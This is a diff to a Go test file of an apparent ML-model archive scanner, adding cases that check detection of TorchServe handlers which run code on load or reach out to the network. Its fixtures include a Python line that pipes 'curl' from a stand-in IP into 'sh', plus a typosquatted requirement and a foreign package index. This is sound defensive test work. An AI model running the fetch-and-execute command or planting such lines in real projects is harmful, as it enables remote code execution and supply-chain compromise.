@@ -8,6 +8,7 @@ import (
 	"github.com/modelaudit/modelaudit/internal/detector"
 	archives "github.com/modelaudit/modelaudit/internal/detector/archive"
 	"github.com/modelaudit/modelaudit/internal/detector/detectortest"
+	"github.com/modelaudit/modelaudit/internal/detector/script"
 	"github.com/modelaudit/modelaudit/internal/detector/supply"
 	"github.com/modelaudit/modelaudit/internal/detector/torchserve"
 	"github.com/modelaudit/modelaudit/internal/format/tar/tartest"
@@ -100,7 +101,8 @@ func TestDetector(t *testing.T) {
 // TestOneCause: a line of the requirements is told once, by whoever knows what a
 // server does by it, and by the other one in other archives.
 func TestOneCause(t *testing.T) {
-	all := []*detector.Detector{archives.Detector, supply.Detector, torchserve.Detector}
+	all := []*detector.Detector{archives.Detector, script.Detector, supply.Detector, torchserve.Detector}
+	const starts, asked = "import os\nos.system('echo poc')\n", "import os\ndef f():\n    os.system('curl -s http://192.0.2.1/x | sh')\n"
 	const lines = "reqeusts\n--index-url https://index.example/simple\npkg @ git+https://git.example/pkg.git\n"
 	alone, served := ziptest.Files("a/requirements.txt", lines), archive(plain, "a/requirements.txt", lines)
 	server := []string{"torchserve-requirements-direct", "torchserve-requirements-index", "torchserve-requirements-near-miss"}
@@ -112,6 +114,9 @@ func TestOneCause(t *testing.T) {
 		{name: "of the server, by its name", file: "m.mar", data: alone, want: server},
 		{name: "of the server, by its manifest", file: "m.zip", data: served, want: server},
 		{name: "of the server, in another archive", file: "m.zip", data: ziptest.Files("m.zip", string(served)), want: server},
+		{name: "Python of the server", file: "m.zip", data: archive(plain, "handler.py", starts), want: []string{"torchserve-runs-code"}},
+		{name: "Python of the server, once it is asked", file: "m.mar", data: archive(plain, "handler.py", asked), want: []string{"torchserve-handler-reaches-out"}},
+		{name: "Python in an archive without a manifest", file: "m.mar", data: ziptest.Files("handler.py", starts), want: []string{"source-runs-on-load"}},
 		{name: "another archive", file: "m.zip", data: alone, want: []string{"requirement-elsewhere", "requirement-lookalike"}},
 		{name: "another archive, named like the server's", file: "m.mar", data: tartest.Build(tartest.Member{Name: "requirements.txt", Data: lines}),
 			want: []string{"requirement-elsewhere", "requirement-lookalike"}},
